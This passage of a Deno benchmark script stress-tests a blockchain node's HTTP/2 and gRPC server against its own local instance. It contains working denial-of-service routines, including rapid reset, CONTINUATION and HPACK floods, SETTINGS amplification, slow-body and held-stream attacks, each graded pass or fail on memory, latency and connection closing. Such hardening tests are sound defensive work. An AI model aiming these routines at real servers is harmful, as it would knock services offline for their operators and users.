    `${nextBlock.length} bytes decoding to ~${
      Math.round(15 * (5 + PAD + 32) / 1000)
    } KB; held up to 20 s`,
  ]);
};

const huffmanFlood: Attack["run"] = async (ctx) => {
  const CHARS = 15_000;
  const value = Array.from(
    { length: CHARS },
    (_, i) => String.fromCharCode(97 + i % 26),
  ).join("");
  const block: number[] = [0x82, 0x86, 0x04];
  hpackString(block, "/healthz");
  block.push(0x00);
  hpackString(block, "x-huff");
  hpackString(block, value, true);
  const blockBytes = Uint8Array.from(block);
  const c = new H2Conn(ctx.port, ctx.addr(0));
  await c.ready;
  await c.handshake(ctx);
  const t0 = Date.now();
  const end = t0 + 15_000;
  const batch = 25;
  let id = 1;
  let sent = 0;
  while (Date.now() < end && !ctx.stopped()) {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < batch; i++, id += 2) {
      frames.push(
        frame(Frame.Headers, END_HEADERS | END_STREAM, id, blockBytes),
      );
    }
    if (!await c.send(concatBytes(frames), batch)) break;
    sent += batch;
    // At most two batches in flight: below the 100 concurrent streams.
    await c.until(() => sent - c.streamsEnded <= batch, end, ctx);
  }
  return outcomeOf([c], t0, ctx, [
    `${sent} requests, each a ${blockBytes.length}-byte block with a ` +
    `Huffman-coded ${CHARS}-character value; ${c.streamsEnded} answered or reset`,
  ]);
};

/** HEADERS + RST_STREAM pairs for streams `first`, `first + 2`, ... */
function resetPairs(first: number, n: number, block: Uint8Array): Uint8Array {
  const frames: Uint8Array[] = [];
  const cancel = u32(8);
  for (let i = 0, id = first; i < n; i++, id += 2) {
    frames.push(frame(Frame.Headers, END_HEADERS, id, block));
    frames.push(frame(Frame.RstStream, 0, id, cancel));
  }
  return concatBytes(frames);
}

const rapidReset: Attack["run"] = async (ctx) => {
  const block = grpcBlock("/Block/BlockSync");
  const c = new H2Conn(ctx.port, ctx.addr(0));
  await c.ready;
  await c.handshake(ctx);
  const t0 = Date.now();
  const batch = 250;
  let id = 1;
  while (Date.now() - t0 < 15_000 && !ctx.stopped()) {
    if (!await c.send(resetPairs(id, batch, block), 2 * batch)) break;
    id += 2 * batch;
  }
  return outcomeOf([c], t0, ctx, [`${(id - 1) / 2} streams opened and reset`]);
};

const rapidResetReconnect: Attack["run"] = async (ctx) => {
  const block = grpcBlock("/Block/BlockSync");
  const pairs = resetPairs(1, 190, block);
  const MAX_CONNECTIONS = 10_000;
  const t0 = Date.now();
  const ways = new Map<string, number>();
  const rst = new Map<string, number>();
  let frames = 0;
  let bytes = 0;
  let opened = 0;
  let lastBlocked = false;
  while (
    Date.now() - t0 < 15_000 && !ctx.stopped() && opened < MAX_CONNECTIONS
  ) {
    const c = new H2Conn(ctx.port, ctx.addr(0));
    opened++;
    if (await c.ready) {
      // A PING after the pairs: its ACK says the node has read them all.
      await c.send(pairs, 380);
      await c.send(frame(Frame.Ping, 0, 0, new Uint8Array(8)), 1);
      await c.until(() => c.pingAcks > 0, Date.now() + 2000, ctx);
    }
    const blocked = c.closed || c.goaway !== undefined;
    lastBlocked = blocked;
    c.close();
    frames += c.frames;
    bytes += c.bytes;
    for (const [code, n] of c.rst) bump(rst, errorName(code), n);
    if (!c.connected) bump(ways, `connect ${c.connectError ?? "failed"}`);
    else if (c.http1) bump(ways, c.http1);
    else if (c.goaway !== undefined) {
      bump(ways, `GOAWAY ${errorName(c.goaway)}`);
    } else if (blocked) bump(ways, "plain close");
    else bump(ways, "served");
    // A refused attacker retries ten times a second, not in a tight loop.
    if (blocked) await sleep(100);
  }
  let how = `${lastBlocked ? "yes" : "no"}: ${opened} connections: ${
    counts(ways)
  }`;
  if (rst.size > 0) how += `; RST ${counts(rst)}`;
  return {
    frames,
    bytes,
    seconds: (Date.now() - t0) / 1000,
    closed: lastBlocked,
    how,
    notes: [
      `${opened} connections one after another, each 190 HEADERS+RST_STREAM ` +
      `pairs and a PING (closed at its ACK); "yes" when the last connection ` +
      `was refused or got a GOAWAY; a refused attacker retries every 100 ms`,
    ],
  };
};

const refusedStreams: Attack["run"] = async (ctx) => {
  const block = grpcBlock("/Block/BlockSync");
  const c = new H2Conn(ctx.port, ctx.addr(0));
  await c.ready;
  await c.handshake(ctx);
  const t0 = Date.now();
  const open: Uint8Array[] = [];
  for (let i = 0; i < 100; i++) {
    open.push(frame(Frame.Headers, END_HEADERS, 1 + 2 * i, block));
  }
  await c.send(concatBytes(open), 100);
  let id = 201;
  const batch = 500;
  while (Date.now() - t0 < 10_000 && !ctx.stopped()) {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < batch; i++, id += 2) {
      frames.push(frame(Frame.Headers, END_HEADERS | END_STREAM, id, block));
    }
    if (!await c.send(concatBytes(frames), batch)) break;
  }
  return outcomeOf([c], t0, ctx, [
    `100 streams held open, then ${(id - 201) / 2} more HEADERS`,
  ]);
};

const slowBody: Attack["run"] = async (ctx) => {
  const head = enc.encode(
    "POST /Account/AccountBalance HTTP/1.1\r\nHost: 127.0.0.1\r\n" +
      "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n",
  );
  interface Slow {
    s: net.Socket;
    closed: boolean;
    answer?: string;
    connected: boolean;
  }
  const conns: Slow[] = [];
  let bytes = 0;
  const t0 = Date.now();
  for (let i = 0; i < 200; i++) {
    const s = net.connect({
      host: "127.0.0.1",
      port: ctx.port,
      localAddress: ctx.addr(i % 4),
    });
    sockets.add(s);
    const c: Slow = { s, closed: false, connected: false };
    conns.push(c);
    s.on("connect", () => c.connected = true);
    s.on("data", (chunk: Uint8Array) => {
      c.answer ??= dec.decode(chunk.subarray(0, 64)).split("\r\n")[0];
    });
    s.on("error", () => {});
    s.on("close", () => {
      c.closed = true;
      sockets.delete(s);
    });
    s.write(head);
    bytes += head.length;
    if (i % 50 === 49) await sleep(20);
  }
  const end = t0 + 20_000;
  let next = t0 + 5000;
  while (
    Date.now() < end && !ctx.stopped() && conns.some((c) => !c.closed)
  ) {
    await sleep(100);
    if (Date.now() >= next) {
      next += 5000;
      for (const c of conns) {
        if (!c.closed) {
          c.s.write("{");
          bytes++;
        }
      }
    }
  }
  const seconds = (Date.now() - t0) / 1000;
  const ways = new Map<string, number>();
  let closed = 0;
  for (const c of conns) {
    if (c.closed) {
      closed++;
      bump(ways, c.answer ?? (c.connected ? "plain close" : "not connected"));
    }
  }
  return {
    frames: 200,
    bytes,
    seconds,
    closed: closed === conns.length,
    how: `${closed}/200${ways.size > 0 ? `: ${counts(ways)}` : ""}${
      closed < 200 ? `; open ${200 - closed} at the end` : ""
    }`,
    notes: [
      "200 HTTP/1.1 heads (Content-Length 1000000) from 4 addresses, then " +
      'one body byte every 5 s; "sent" counts heads',
    ],
  };
};

const GENESIS_SYNC = "/Block/GenesisSync";

/** An empty gRPC message (GenesisSyncReq has no fields). */
const EMPTY_MESSAGE = new Uint8Array(5);

/** `n` HEADERS without END_STREAM: streams 1, 3, ... held open. */
function holdFrames(n: number, path: string): Uint8Array {
  const block = grpcBlock(path);
  return concatBytes(
    Array.from(
      { length: n },
      (_, i) => frame(Frame.Headers, END_HEADERS, 1 + 2 * i, block),
    ),
  );
}

/** A gRPC prefix announcing a 16 MiB message, the largest the node reads. */
const PREFIX_16_MIB = Uint8Array.of(0, 1, 0, 0, 0);

/** Body bytes each held call sends after its prefix. */
const HELD_BODY_BYTES = 15 * 1024 * 1024;

/**
 * Sends each of `ids` (open streams of tracked `c`) `perStream` bytes of
 * body within the node's windows, waiting for its WINDOW_UPDATEs, and
 * never ends a body; a stream the node ended gets no more. Stops when all
 * is sent or the streams ended, at `deadline`, the close or the stop.
 * Returns the body bytes sent, and the most one stream sent.
 */
async function feedBodies(
  c: H2Conn,
  ids: number[],
  perStream: number,
  deadline: number,
  ctx: Ctx,
): Promise<{ total: number; largest: number }> {
  const sent = new Map(ids.map((id) => [id, 0]));
  const zeros = new Uint8Array(MAX_FRAME_SIZE);
  let total = 0;
  while (Date.now() < deadline && !ctx.stopped() && !c.closed) {
    const out: Uint8Array[] = [];
    let open = 0;
    for (const id of ids) {
      const done = sent.get(id)!;
      if (c.ended.has(id) || done >= perStream) continue;
      open++;
      const n = Math.min(MAX_FRAME_SIZE, perStream - done, c.room(id));
      if (n <= 0) continue;
      out.push(c.dataFrame(id, zeros.subarray(0, n)));
      sent.set(id, done + n);
      total += n;
    }
    if (open === 0) break;
    if (out.length > 0) {
      if (!await c.send(concatBytes(out), out.length)) break;
      continue;
    }
    // Every window is shut: until the node reads and gives some back.
    const mark = c.windowUpdates + c.ended.size;
    await c.until(() => c.windowUpdates + c.ended.size !== mark, deadline, ctx);
  }
  return { total, largest: Math.max(...sent.values()) };
}

/**
 * `streams` unary GenesisSync calls on one connection from each of
 * `addresses` addresses, each body a prefix announcing 16 MiB and 15 MiB
 * of it, never ended; held up to 15 s.
 */
function heldBodies(addresses: number, streams: number): Attack["run"] {
  return async (ctx) => {
    const t0 = Date.now();
    const deadline = t0 + 15_000;
    const ids = Array.from({ length: streams }, (_, i) => 1 + 2 * i);
    const conns = Array.from(
      { length: addresses },
      (_, a) =>
        new H2Conn(ctx.port, ctx.addr(a), [], { track: true, giveBack: true }),
    );
    const fed = await Promise.all(conns.map(async (c) => {
      if (!await c.ready) return { total: 0, largest: 0 };
      await c.handshake(ctx);
      await c.send(holdFrames(streams, GENESIS_SYNC), streams);
      await c.send(
        concatBytes(ids.map((id) => c.dataFrame(id, PREFIX_16_MIB))),
        streams,
      );
      return await feedBodies(c, ids, HELD_BODY_BYTES, deadline, ctx);
    }));
    await hold(conns, deadline, ctx);
    const out = await outcomeOf(conns, t0, ctx);
    let exhausted = 0;
    let open = 0;
    const other = new Map<string, number>();
    const why = new Map<string, number>();
    for (const c of conns) {
      for (const id of ids) {
        const status = c.grpcStatus.get(id);
        if (status === "8") {
          exhausted++;
          bump(why, (c.grpcMessage.get(id) ?? "no message").slice(0, 100));
        } else if (status !== undefined) bump(other, `grpc-status ${status}`);
        else if (c.ended.has(id)) bump(other, "reset without a status");
        else if (c.closed) bump(other, "cut with the connection");
        else open++;
      }
    }
    const calls = addresses * streams;
    out.how += `; grpc-status 8 ×${exhausted}/${calls}`;
    out.notes.push(
      `${addresses === 1 ? "one connection" : `${addresses} connections`} ` +
        `from ${addresses === 1 ? "one address" : `${addresses} addresses`}` +
        ` x ${streams} unary GenesisSync calls, each a gRPC prefix ` +
        `announcing 16 MiB then up to 15 MiB of body within the node's ` +
        `windows, never ended; ${
          fmtBytes(fed.reduce((a, f) => a + f.total, 0))
        } of bodies sent, at most ${
          fmtBytes(Math.max(...fed.map((f) => f.largest)))
        } on one call; held up to 15 s: ${exhausted}/${calls} calls ended ` +
        `grpc-status 8 (RESOURCE_EXHAUSTED)${
          why.size > 0
            ? `: ${
              [...why].sort((a, b) => b[1] - a[1])
                .map(([m, n]) =>
                  `"${m}" ×${n}`
                ).join(", ")
            }`
            : ""
        }${other.size > 0 ? `, ${counts(other)}` : ""}, ${open} still ` +
        `open at the end`,
    );
    if (exhausted === 0) out.misses = ["status 8"];
    return out;
  };
}

/** The victim of #13: the node's own machine, which has stream slots kept. */
const VICTIM_ADDRESS = "127.0.0.1";

const heldStreams: Attack["run"] = async (ctx) => {
  const shares = [100, 100, 56];
  const t0 = Date.now();
  const end = t0 + 15_000;
  const attackers: H2Conn[] = [];
  // One after the other, so the node's shares fill in this order.
  for (const [a, n] of shares.entries()) {
    const c = new H2Conn(ctx.port, ctx.addr(a), [], { track: true });
    attackers.push(c);
    if (!await c.ready) continue;
    await c.handshake(ctx);
    await c.send(holdFrames(n, GENESIS_SYNC), n);
  }
  await sleep(500);
  // Not one of the attackers: its connection is no verdict on them.
  const victim = new H2Conn(ctx.port, VICTIM_ADDRESS, [], {
    track: true,
    giveBack: true,
  });
  const block = grpcBlock(GENESIS_SYNC);
  const calls: number[] = [];
  if (await victim.ready) {
    await victim.handshake(ctx);
    let next = Date.now();
    for (
      let id = 1;
      Date.now() < end && !ctx.stopped() && !victim.closed;
      id += 2
    ) {
      calls.push(id);
      await victim.send(
        concatBytes([
          frame(Frame.Headers, END_HEADERS, id, block),
          frame(Frame.Data, END_STREAM, id, EMPTY_MESSAGE),
        ]),
        2,
      );
      next += 200;
      await sleep(Math.max(0, next - Date.now()));
    }
    await victim.until(
      () => calls.every((id) => victim.ended.has(id)),
      Date.now() + 2000,
      ctx,
    );
  }
  const failed = new Map<string, number>();
  let ok = 0;
  for (const id of calls) {
    const status = victim.grpcStatus.get(id);
    if (status === "0") ok++;
    else if (status !== undefined) bump(failed, `grpc-status ${status}`);
    else if (victim.ended.has(id)) bump(failed, "reset");
    else bump(failed, "no answer");
  }
  const victimRst = [...victim.rst].map(([code, n]) =>
    `${errorName(code)} ×${n}`
  );
  const goaway = victim.goaway === undefined
    ? "no GOAWAY"
    : `GOAWAY ${errorName(victim.goaway)}`;
  const out = await outcomeOf(attackers, t0, ctx, [
    `attackers: ${shares.join(" + ")} GenesisSync streams (HEADERS, no ` +
    `END_STREAM, nothing more) on one connection from each of ` +
    `${shares.length} addresses, held 15 s; victim at ${VICTIM_ADDRESS}: ` +
    `a GenesisSync call every 200 ms on one connection of its own, ` +
    `${ok}/${calls.length} answered grpc-status 0${
      failed.size > 0 ? ` (failed: ${counts(failed)})` : ""
    }${
      victimRst.length > 0 ? `; RST to the victim ${victimRst.join(", ")}` : ""
    }` +
    `; ${goaway} to the victim${
      victim.closedByNode ? ", closed by the node" : ""
    }`,
  ]);
  victim.close();
  out.how += `; victim ${ok}/${calls.length} ok, ${goaway}`;
  const misses: string[] = [];
  if (calls.length === 0 || ok < calls.length) misses.push("victim");
  if (victim.goaway !== undefined) misses.push("victim GOAWAY");
  if (misses.length > 0) out.misses = misses;
  return out;
};

/**
 * Characters of #14's trailer value: '0' is a 5-bit Huffman code, so the
 * value codes to 16,370 bytes and the block fits one 16 KiB frame.
 */
const TRAILER_CHARS = 26_192;

const trailersFlood: Attack["run"] = async (ctx) => {
  const trailer: number[] = [0x00];
  hpackString(trailer, "x");
  hpackString(trailer, "0".repeat(TRAILER_CHARS), true);
  const trailerBlock = Uint8Array.from(trailer);
  const block = grpcBlock(GENESIS_SYNC);
  const c = new H2Conn(ctx.port, ctx.addr(0));
  await c.ready;
  await c.handshake(ctx);
  const t0 = Date.now();
  const batch = 20;
  let id = 1;
  let sent = 0;
  while (Date.now() - t0 < 10_000 && !ctx.stopped()) {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < batch; i++, id += 2) {
      frames.push(
        frame(Frame.Headers, END_HEADERS, id, block),
        frame(Frame.Headers, END_HEADERS | END_STREAM, id, trailerBlock),
      );
    }
    if (!await c.send(concatBytes(frames), 2 * batch)) break;
    sent += batch;
  }
  const out = await outcomeOf([c], t0, ctx, [
    `${sent} requests (HEADERS without END_STREAM, then as trailers a ` +
    `${trailerBlock.length}-byte block, a Huffman-coded value of ` +
    `${TRAILER_CHARS} characters) as fast as the socket took them, up to ` +
    `10 s; ${
      c.goawayAt === undefined
        ? "no GOAWAY"
        : `GOAWAY ${errorName(c.goaway!)} after ${c.goawayAt - t0} ms`
    }`,
  ]);
  if (c.goaway !== 11) out.misses = ["calm"];
  return out;
};

const settingsAmplification: Attack["run"] = async (ctx) => {
  const ENTRIES = 2730;
  const FRAMES = 990;
  const entries: [number, number][] = Array.from(
    { length: ENTRIES },
    (_, i) => [SETTINGS_INITIAL_WINDOW_SIZE, i % 2 ? 65_535 : 1],
  );
  const one = frame(Frame.Settings, 0, 0, settingsPayload(entries));
  const c = new H2Conn(ctx.port, ctx.addr(0));
  await c.ready;
  await c.handshake(ctx);
  const t0 = Date.now();
  await c.send(holdFrames(100, GENESIS_SYNC), 100);
  const batch = 10;
  const chunk = repeat(one, batch);
  let sent = 0;
  while (sent < FRAMES && Date.now() - t0 < 20_000 && !ctx.stopped()) {
    if (!await c.send(chunk, batch)) break;
    sent += batch;
  }
  const wrote = Date.now() - t0;
  // Its answers: an ACK each (and one to our first SETTINGS), or a GOAWAY.
  await c.until(
    () => c.settingsAcks > sent || c.goaway !== undefined,
    Date.now() + 5000,
    ctx,
  );
  const out = await outcomeOf([c], t0, ctx, [
    `100 GenesisSync streams held open, then ${sent} SETTINGS frames of ` +
    `${ENTRIES} INITIAL_WINDOW_SIZE entries (${fmtBytes(sent * one.length)}` +
    `) written in ${wrote} ms; ${Math.max(0, c.settingsAcks - 1)} ACKs ` +
    `read; ${
      c.goawayAt === undefined
        ? "no GOAWAY"
        : `GOAWAY ${errorName(c.goaway!)} after ${c.goawayAt - t0} ms`
    }`,
  ]);
  if (c.goaway !== 11) out.misses = ["calm"];
  return out;
};

/** Counts whole gRPC messages (a 5-byte prefix, then its payload). */
class MessageCount {
  count = 0;
  #prefix: number[] = [];
  #left = 0;

  push(bytes: Uint8Array): void {
    let i = 0;
    while (i < bytes.length) {
      if (this.#left > 0) {
        const n = Math.min(this.#left, bytes.length - i);
        i += n;
        this.#left -= n;
        if (this.#left === 0) this.count++;
        continue;
      }
      this.#prefix.push(bytes[i++]);
      if (this.#prefix.length === 5) {
        const [, a, b, c, d] = this.#prefix;
        this.#left = a * 2 ** 24 + b * 2 ** 16 + c * 2 ** 8 + d;
        this.#prefix = [];
        if (this.#left === 0) this.count++;
      }
    }
  }
}

/** How fast #16's client reads: about 1 MB/s. */
const SLOW_READ_BYTES_PER_MS = 1000;

const slowReader: Attack["run"] = async (ctx) => {
  const MAX_WINDOW = 0x7fffffff;
  const c = new H2Conn(
    ctx.port,
    ctx.addr(0),
    [[SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW]],
    { track: true },
  );
  const messages = new MessageCount();
  c.onData = (stream, payload) => {
    if (stream === 1) messages.push(payload);
  };
  // After each read the socket rests as long as its bytes take at the rate.
  let resume: ReturnType<typeof setTimeout> | undefined;
  c.socket.on("data", (chunk: Uint8Array) => {
    c.socket.pause();
    clearTimeout(resume);
    resume = setTimeout(
      () => c.socket.resume(),
      chunk.length / SLOW_READ_BYTES_PER_MS,
    );
  });
  await c.ready;
  await c.handshake(ctx);
  const t0 = Date.now();
  await c.send(
    concatBytes([
      frame(Frame.WindowUpdate, 0, 0, u32(MAX_WINDOW - 65_535)),
      frame(Frame.Headers, END_HEADERS, 1, grpcBlock("/Block/BlockSync")),
      frame(Frame.Data, END_STREAM, 1, SYNC_FROM_1),
    ]),
    3,
  );
  await c.until(() => c.ended.has(1), t0 + 20_000, ctx);
  const seconds = (Date.now() - t0) / 1000;
  clearTimeout(resume);
  const status = c.grpcStatus.get(1);
  const arrived = status === "0" && messages.count >= CHAIN_BLOCKS;
  const byNode = c.closedByNode
    ? `; the node closed the connection${
      c.goaway === undefined ? "" : ` (GOAWAY ${errorName(c.goaway)})`
    }`
    : "";
  const rst = [...c.rst].map(([code, n]) => `${errorName(code)} ×${n}`);
  c.close();
  return {
    ...totals([c]),
    seconds,
    closed: false,
    noCloseTarget: true,
    how: `n/a: ${arrived ? "all arrived" : "NOT all arrived"}, ` +
      `${messages.count} blocks, ${fmtBytes(c.dataIn)} in ` +
      `${seconds.toFixed(1)} s${byNode}${
        rst.length > 0 ? `; RST ${rst.join(", ")}` : ""
      }`,
    notes: [
      `one BlockSync call from block 1 with SETTINGS_INITIAL_WINDOW_SIZE ` +
      `and a connection window of 2^31-1, read at ~1 MB/s (the socket ` +
      `rests after each read for its bytes' time): ${messages.count} ` +
      `blocks (${
        fmtBytes(c.dataIn / Math.max(1, messages.count))
      } each), grpc-status ${status ?? "none"}. The chain's blocks are ` +
      `small, so the old failure (a message > 256 KiB written at once ` +
      `meeting the unread bound) cannot show here. The "attacker closed" ` +
      `target does not apply (the client should be served to the end): ` +
      `this row's verdict is on the whole response arriving instead`,
    ],
    misses: arrived ? [] : ["arrived"],
  };
};

const ATTACKS: Attack[] = [
  {
    id: "1",
    name: "CONTINUATION flood, empty",
    addresses: 1,
    run: continuationFlood(0),
  },
  {
    id: "2",
    name: "CONTINUATION flood, 1-byte",
    addresses: 1,
    run: continuationFlood(1),
  },
  { id: "3", name: "empty DATA frames", addresses: 1, run: emptyData },
  { id: "4", name: "zero-window stall", addresses: 6, run: zeroWindow },
  {
    id: "5",
    name: "PING flood",
    addresses: 1,
    run: ackFlood(
      frame(Frame.Ping, 0, 0, new Uint8Array(8)),
      (c) => c.pingAcks,
    ),
  },
  {
    id: "6",
    name: "SETTINGS flood",
    addresses: 1,
    run: ackFlood(
      frame(
        Frame.Settings,
        0,
        0,
        settingsPayload([[SETTINGS_INITIAL_WINDOW_SIZE, 65_535]]),
      ),
      (c) => c.settingsAcks,
    ),
  },
  {
    id: "7",
    name: "HPACK amplification",
    addresses: 1,
    run: hpackAmplification,
  },
  { id: "8", name: "Huffman header flood", addresses: 1, run: huffmanFlood },
  { id: "9", name: "rapid reset", addresses: 1, run: rapidReset },
  {
    id: "9b",
    name: "rapid reset, reconnecting",
    addresses: 1,
    run: rapidResetReconnect,
  },
  { id: "10", name: "refused streams", addresses: 1, run: refusedStreams },
  { id: "11", name: "HTTP/1.1 slow body", addresses: 4, run: slowBody },
  {
    id: "12",
    name: "held request bodies",
    addresses: 1,
    run: heldBodies(1, 100),
  },
  {
    id: "12b",
    name: "held request bodies, 4 addresses",
    addresses: 4,
    run: heldBodies(4, 25),
  },
  { id: "13", name: "held streams", addresses: 3, run: heldStreams },
  { id: "14", name: "trailers flood", addresses: 1, run: trailersFlood },
  {
    id: "15",
    name: "SETTINGS amplification",
    addresses: 1,
    run: settingsAmplification,
  },
  { id: "16", name: "slow reader", addresses: 1, run: slowReader },
];

// ---------------------------------------------------------------------------
// The node, the chain it serves, and the report.

/** Writes a keystore, a genesis and a block store with the chain. */
async function writeChain(dir: string): Promise<void> {
  const chain = makeChain(CHAIN_BLOCKS, CHAIN_TXS);
  await writeKey(join(dir, "keys"), chain.authority, PASS);
  const store = await BlockStore.open(join(dir, "store"));
  await store.writeGenesis(chain.genesis);
  // The whole file at once: appending block by block syncs each.
  await Deno.writeTextFile(
    join(dir, "store", BLOCKS_FILE),
    chain.blocks.map((b) => encodeSigBlock(b) + "\n").join(""),
  );
}

async function startNode(
  dir: string,
): Promise<{ bcn: BcnProcess; port: number }> {
  const port = freePort();
  const bcn = await startBcn([
    "node",
    "start",
    "--node",
    `127.0.0.1:${port}`,
    "--bootstrap",
    "--keystore",
    join(dir, "keys"),
    "--blockstore",
    join(dir, "store"),
    "--period",
    "1s",
  ], {
    cwd: dir,
    env: { BCN_AUTHPASS: PASS },
    main: Deno.env.get("BCN_MAIN"),
  });
  try {
    await bcn.waitFor("<=> gRPC", 60_000);
  } catch (e) {
    await bcn.stop();
    throw e;
  }
  return { bcn, port };
}

function percentile(sorted: number[], q: number): number {
  return sorted[Math.max(0, Math.ceil(q * sorted.length) - 1)] ?? NaN;
}

function fmtCount(n: number): string {
  if (n < 10_000) return String(n);
  if (n < 1e6) return `${(n / 1e3).toFixed(1)}k`;
  return `${(n / 1e6).toFixed(1)}M`;
}

function fmtBytes(n: number): string {
  if (n < 1e6) return `${(n / 1e3).toFixed(1)} kB`;
  return `${(n / 1e6).toFixed(1)} MB`;
}

/** A command's first output line, or "?" */
async function firstLine(cmd: string, args: string[], cwd?: string) {
  try {
    const out = await new Deno.Command(cmd, { args, cwd, stderr: "null" })
      .output();
    return dec.decode(out.stdout).split("\n")[0].trim() || "?";
  } catch {
    return "?";
  }
}

/** Which bcn is attacked: version, src/http commit, uncommitted changes. */
async function versionLine(): Promise<string> {
  const main = Deno.env.get("BCN_MAIN") ??
    new URL("../src/main.ts", import.meta.url).pathname;
  const root = main.replace(/src\/main\.ts$/, "");
  let version = "?";
  try {
    version = JSON.parse(await Deno.readTextFile(`${root}deno.json`)).version;
  } catch {
    // no deno.json beside it
  }
  // Only when `root` is a checkout of its own (an extracted tree is not).
  const top = await firstLine("git", ["rev-parse", "--show-toplevel"], root);
  const own = top !== "?" && `${top}/` === root;
  const commit = own
    ? await firstLine(
      "git",
      ["log", "-1", "--format=%h", "--", "src/http"],
      root,
    )
    : "commit unknown: not a git checkout";
  const dirty = own
    ? await firstLine("git", ["status", "--porcelain", "--", "src/http"], root)
    : "?";
  const cpu = /model name\s*:\s*(.*)/.exec(
    await Deno.readTextFile("/proc/cpuinfo").catch(() => ""),
  )?.[1] ?? Deno.build.arch;
  const memGb = /MemTotal:\s+(\d+)/.exec(
    await Deno.readTextFile("/proc/meminfo").catch(() => ""),
  )?.[1];
  return `bcn ${version} at ${root} (src/http ${commit}${
    dirty === "?" ? "" : ", src/http has uncommitted changes"
  }) · deno ${Deno.version.deno} (V8 ${Deno.version.v8}) · ${Deno.build.os} ${Deno.osRelease()} · ${cpu}, ${navigator.hardwareConcurrency} cores, ${
    memGb ? (Number(memGb) / 1024 / 1024).toFixed(0) : "?"
  } GB · ${new Date().toISOString().slice(0, 16)}Z`;
}

interface Row {
  attack: Attack;
  outcome?: Outcome;
  error?: string;
  beforeMb?: number;
  peakMb?: number;
  probes?: ProbeResult[];
  stopReason?: string;
}

async function runAttack(
  attack: Attack,
  dir: string,
  prober: Prober,
  probeAddress: string | undefined,
): Promise<Row> {
  const { bcn, port } = await startNode(dir);
  node = bcn;
  const pid = bcn.pid;
  try {
    // Past start-up's allocations.
    await sleep(1000);
    const beforeMb = rssMb(pid) ?? NaN;
    let stopReason: string | undefined;
    let peakMb = beforeMb;
    const watch = setInterval(() => {
      const mb = rssMb(pid);
      if (mb === undefined) stopReason ??= "the node DIED";
      else {
        peakMb = Math.max(peakMb, mb);
        if (mb > RSS_CAP_MB) {
          stopReason ??= `stopped at the ${RSS_CAP_MB} MB RSS cap`;
        }
      }
    }, 250);
    prober.start(port, pid, probeAddress);
    const ctx: Ctx = {
      port,
      probeAddress,
      addr: (i) => `127.0.0.${3 + i}`,
      stopped: () => stopReason !== undefined,
    };
    let outcome: Outcome | undefined;
    let error: string | undefined;
    try {
      outcome = await attack.run(ctx);
    } catch (e) {
      error = (e as Error).message.split("\n")[0];
    } finally {
      // The node may still be working through what it was sent.
      if (stopReason === undefined) await sleep(PROBE_TAIL_MS);
      clearInterval(watch);
    }
    const report = await prober.stop();
    destroyAll();
    if (rssMb(pid) === undefined) stopReason ??= "the node DIED";
    if (stopReason === "the node DIED") {
      const out = (await bcn.stop()).stderr.trim().split("\n").slice(-3);
      stopReason += `: ${out.join(" / ").slice(0, 300)}`;
    }
    return {
      attack,
      outcome,
      error,
      beforeMb,
      peakMb: Math.max(peakMb, report.peakMb),
      probes: report.results,
      stopReason,
    };
  } finally {
    destroyAll();
    await bcn.stop();
  }
}

function tableRow(row: Row): { cells: string[]; notes: string[] } {
  const { attack, outcome: o } = row;
  const notes = [...(o?.notes ?? [])];
  if (row.stopReason) notes.unshift(row.stopReason);
  if (row.error) notes.unshift(`attack failed: ${row.error}`);
  if (!o) {
    return {
      cells: [attack.id, attack.name, "-", "-", "-", "-", "-", "-", "error"],
      notes,
    };
  }
  const growth = (row.peakMb ?? NaN) - (row.beforeMb ?? NaN);
  const probes = row.probes ?? [];
  const ok = probes.filter((p) => p.ok).length;
  const ms = probes.map((p) => p.ms).sort((a, b) => a - b);
  const p99 = percentile(ms, 0.99);
  const failures = new Map<string, number>();
  const answers = new Map<string, number>();
  for (const p of probes) bump(p.ok ? answers : failures, p.what);
  if (failures.size > 0) notes.push(`probe failures: ${counts(failures)}`);
  const misses: string[] = [];
  if (!(growth < TARGET_GROWTH_MB)) misses.push("rss");
  if (probes.length === 0 || ok < probes.length) misses.push("probes");
  if (!(p99 < TARGET_P99_MS)) misses.push("p99");
  if (!o.closed && !o.noCloseTarget) misses.push("closed");
  misses.push(...(o.misses ?? []));
  if (row.stopReason) misses.push("stopped");
  return {
    cells: [
      attack.id,
      attack.name,
      `${fmtCount(o.frames)} fr / ${fmtBytes(o.bytes)}`,
      `${o.seconds.toFixed(1)} s`,
      `${(row.beforeMb ?? NaN).toFixed(0)} → ${
        (row.peakMb ?? NaN).toFixed(0)
      } (+${growth.toFixed(0)})`,
      `${ok}/${probes.length}`,
      `${percentile(ms, 0.5).toFixed(0)}/${p99.toFixed(0)}/${
        (ms.at(-1) ?? NaN).toFixed(0)
      }`,
      o.how,
      misses.length === 0 ? "pass" : `FAIL (${misses.join(", ")})`,
    ],
    notes,
  };
}

function printTable(rows: string[][]): void {
  const widths = rows[0].map((_, i) =>
    Math.max(...rows.map((r) => r[i].length))
  );
  const line = (r: string[]) =>
    `| ${r.map((c, i) => c.padEnd(widths[i])).join(" | ")} |`;
  console.log(line(rows[0]));
  console.log(`|${widths.map((w) => "-".repeat(w + 2)).join("|")}|`);
  for (const r of rows.slice(1)) console.log(line(r));
}

async function main(): Promise<void> {
  checkHuffman();
  const wanted = Deno.args.length > 0 ? new Set(Deno.args) : undefined;
  const attacks = ATTACKS.filter((a) => !wanted || wanted.has(a.id));
  if (attacks.length === 0) {
    console.error(
      `bench:attack: no such attack; ids: ${
        ATTACKS.map((a) => a.id).join(" ")
      }`,
    );
    Deno.exit(2);
  }
  console.log(await versionLine());
  const notes: string[] = [];
  const probeAddress = canBind(PROBE_ADDRESS) ? PROBE_ADDRESS : undefined;
  if (!probeAddress) {
    notes.push(
      `prober: ${PROBE_ADDRESS} cannot be bound, probing from 127.0.0.1`,
    );
  }
  let bindable = 0;
  while (bindable < 6 && canBind(`127.0.0.${3 + bindable}`)) bindable++;

  const prober = new Prober();
  // Ctrl-C stops the node and the sockets too.
  const onInterrupt = async () => {
    destroyAll();
    prober.terminate();
    await node?.stop("SIGKILL");
    Deno.exit(130);
  };
  Deno.addSignalListener("SIGINT", onInterrupt);
  try {
    await withTempDir(async (dir) => {
      const t = performance.now();
      await writeChain(dir);
      console.log(
        `chain: ${CHAIN_BLOCKS} blocks x ${CHAIN_TXS} transfers, built in ` +
